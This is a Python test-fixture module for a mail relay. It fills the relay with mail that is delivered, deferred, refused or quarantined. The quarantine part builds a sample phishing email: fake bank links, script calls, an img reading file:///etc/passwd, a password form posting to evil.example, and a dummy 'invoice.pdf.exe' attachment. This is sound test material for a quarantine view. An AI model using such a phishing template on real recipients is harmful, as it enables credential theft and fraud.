"""A real relay with mail in every state, for pages that show mail: delivered, deferred, on hold, refused by the next hop."""

from __future__ import annotations

import asyncio
import os
import smtplib
import struct
import time
import zlib
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from email.message import EmailMessage
from pathlib import Path

from gatepost.model.access import TrustedNetwork
from gatepost.model.configuration import Configuration
from gatepost.model.domain import DomainMatch, DomainRule, GatewayRoute
from gatepost.model.envelope import BodyType, Envelope, Origin, Recipient
from gatepost.model.gateway import DomainForwardGateway, Encryption, RoundRobinGateway, SpecificDomainsGateway
from gatepost.model.listener import Listener
from gatepost.model.settings import ServerSettings, Settings
from gatepost.store.folder import DataFolder
from gatepost.store.quarantine_values import Quarantined, QuarantineKind, ScorePart
from gatepost.store.spool import Spool
from gatepost.store.values import NewMessage

from ..support.ports import free_port, is_listening
from ..support.relay_process import RelayProcess
from ..support.smtp_peer import SmtpPeer

PROVIDER = "gw-provider"
BRANCH = "gw-branch"
DEAD = "gw-dead"
INBOUND = "gw-in"


def configuration(port: int, provider: int, branch: int) -> Configuration:
    def by(domain: str, gateway: str) -> DomainRule:
        return DomainRule(domain=domain, match=DomainMatch.RECIPIENT, route=GatewayRoute(gateway=gateway))

    return Configuration(
        gateways=(
            RoundRobinGateway(
                id=PROVIDER, description="Main provider", host="127.0.0.1", port=provider, encryption=Encryption.NONE
            ),
            SpecificDomainsGateway(
                id=BRANCH, description="Branch office", host="127.0.0.1", port=branch, encryption=Encryption.NONE
            ),
            SpecificDomainsGateway(
                id=DEAD, description="Old server", host="127.0.0.1", port=free_port(), encryption=Encryption.NONE
            ),
            DomainForwardGateway(
                id=INBOUND,
                description="Mail server",
                addresses=("127.0.0.1",),
                port=provider,
                encryption=Encryption.NONE,
                domains=("example.com",),
            ),
        ),
        domains=(by("branch.example", BRANCH), by("old.example", DEAD)),
        listeners=(Listener(id="ls-office", address="127.0.0.1", port=port),),
        trusted_networks=(TrustedNetwork(network="127.0.0.0/8"),),
        settings=Settings(server=ServerSettings(host_name="mail.example.org")),
    )


@dataclass(frozen=True)
class Office:
    """``provider`` takes everything but mail for nobody@…; ``branch`` asks to come again later; the third is not there."""

    relay: RelayProcess
    port: int
    provider: SmtpPeer
    branch: SmtpPeer

    def send(self, sender: str, *recipients: str, subject: str, text: str = "Hello,\n\nsee above.\n") -> None:
        message = EmailMessage()
        message["From"], message["To"], message["Subject"] = sender, ", ".join(recipients), subject
        message.set_content(text)
        with smtplib.SMTP("127.0.0.1", self.port, timeout=30) as client:
            client.send_message(message, sender, list(recipients))

    def fill(self, count: int = 24) -> None:
        """Some mail of an ordinary morning; every way it can end."""
        for number in range(count):
            sender, recipients, subject = _MORNING[number % len(_MORNING)]
            text = "Hello,\n\n" + "a line of some length, as letters have them\n" * (number * 37 % 400)
            self.send(
                sender, *(address.format(number) for address in recipients), subject=subject.format(number + 1001), text=text
            )

    def wait(self, delivered: int, timeout: float = 60) -> None:
        """Until so many messages were delivered (reports about what was refused among them) and something was put off."""
        deadline = time.monotonic() + timeout
        while True:
            found = self.relay.command("track", "--state", "delivered", "--limit", "200")
            if len(found.get("messages", ())) >= delivered and self.relay.command("spool", "counts")["deferred"]:
                return
            assert time.monotonic() < deadline, "the attempts were not made"
            time.sleep(0.2)


_MORNING = (
    ("billing@example.org", ("anna.becker@branch.example",), "Invoice {}"),
    ("scanner@example.org", ("office@old.example",), "Scan from the second floor, page {}"),
    ("anna@example.org", ("partners@branch.example", "sales@branch.example", "ceo@branch.example"), "Minutes of meeting {}"),
    ("shop@example.org", ("customer{0}@example.net",), "Your order {} is on its way"),
    ("monitor@example.org", ("nobody@example.net",), "Disk {} is nearly full"),
    ("newsletter@example.org", ("reader@old.example",), "Übersicht über die Größen im März, Nr. {}"),
)


@contextmanager
def office(folder: Path, *, quarantined: int = 0) -> Iterator[Office]:
    with SmtpPeer() as provider, SmtpPeer() as branch:
        provider.on("rcpt", "550 5.1.1 No such user here", match="nobody@")
        branch.on("rcpt", "451 4.7.1 Greylisted, come again in five minutes")
        port = free_port()
        relay = RelayProcess(folder)
        relay.configure(configuration(port, provider.port, branch.port))
        if quarantined:
            fill_quarantine(relay.data, quarantined)
        with relay:
            relay.process.wait_until(lambda: is_listening(port), "the listener is open", 20)
            yield Office(relay, port, provider, branch)


# --- what inspection holds back ---


def picture(width: int = 120, height: int = 32) -> bytes:
    """A PNG of one colour."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    lines = b"".join(b"\0" + b"\xc8\x28\x28" * width for _ in range(height))
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(lines)) + chunk(b"IEND", b"")


PRIZE = """<html><head><title>x</title><style>body{background:url(https://evil.example/b.png)}</style></head>
<body onload="steal()"><h1>You have won!</h1><p>Dear customer, your parcel <b>could not be delivered</b>.</p>
<script>steal()</script><img src="https://evil.example/pixel.png" alt="outside"><img src="file:///etc/passwd">
<img src="cid:logo@prize"><p>Claim it at <a href="https://evil.example/login?to=bank.example">https://bank.example</a>
or <a href="javascript:steal()">here</a>.</p><form action="https://evil.example"><input name="password"></form>
<iframe src="https://evil.example"></iframe></body></html>"""


def prize_mail(number: int) -> bytes:
    message = EmailMessage()
    message["From"] = f'"Your bank" <winner{number}@prize.example>'
    message["To"], message["Subject"] = "office@example.com", f"You have won, number {number}"
    message["Message-ID"] = f"<{number}@prize.example>"
    message.set_content("You have won!\n\nClaim it at https://evil.example/login\n")
    message.add_alternative(PRIZE, subtype="html")
    message.get_payload()[1].add_related(picture(), "image", "png", cid="<logo@prize>")  # type: ignore[union-attr,index]
    message.add_attachment(b"MZ" + b"\0" * 3000, maintype="application", subtype="octet-stream", filename="invoice.pdf.exe")
    return message.as_bytes(policy=message.policy.clone(linesep="\r\n"))


def fill_quarantine(data: Path, count: int = 12, gateway: str = INBOUND) -> None:
    """Put mail into the quarantine of a relay that does not run, as inspection would have put it there."""

    async def fill() -> None:
        spool = Spool.open(DataFolder(data))
        try:
            for number in range(count):
                await spool.submit(_held_back(number, time.time(), gateway))
        finally:
            await spool.aclose()

    mask = os.umask(0o077)
    try:
        asyncio.run(fill())
    finally:
        os.umask(mask)


def _held_back(number: int, now: float, gateway: str) -> NewMessage:
    score = (12.5, 24.0, 41.3, None)[number % 4]
    level = ("low", "medium", "high", "")[number % 4]
    parts = (
        ScorePart("SpamAssassin", round((score or 0) - 8.5, 1), "BAYES_99, HTML_IMAGE_ONLY_08"),
        ScorePart("zen.blocklist.example", 5.0, "192.0.2.77 is listed: 127.0.0.4"),
        ScorePart("SPF", 3.5, "softfail: prize.example does not name 192.0.2.77"),
        ScorePart("rspamd", 0.0, "no answer within 5 s", failed=True),
    )
    if score is None:
        why = Quarantined(QuarantineKind.VIRUS, "infected: Win.Test.EICAR_HDB-1", gateway)
    else:
        why = Quarantined(QuarantineKind.SPAM, f"spam level {level}, score {score:g}", gateway, level, score, parts)
    recipients = (Recipient("office@example.com"),)
    origin = Origin("ls-office", "192.0.2.77", "mail.prize.example", "ESMTP", "", "")
    return NewMessage(
        envelope=Envelope(f"winner{number}@prize.example", recipients, BodyType.EIGHT_BIT_MIME, origin=origin),
        content=prize_mail(number),
        parts=((f"inbound:{gateway}", recipients),),
        received_at=now - 3600.0 * (count_back := 12 - number),
        due_at=now,
        expires_at=now + 5 * 86_400,
        subject=f"You have won, number {number}",
        message_id_header=f"<{number}@prize.example>",
        hold=f"quarantine: {why.reason}",
        hold_until=now + 86_400.0 * (30 - count_back),
        quarantine=why,
    )
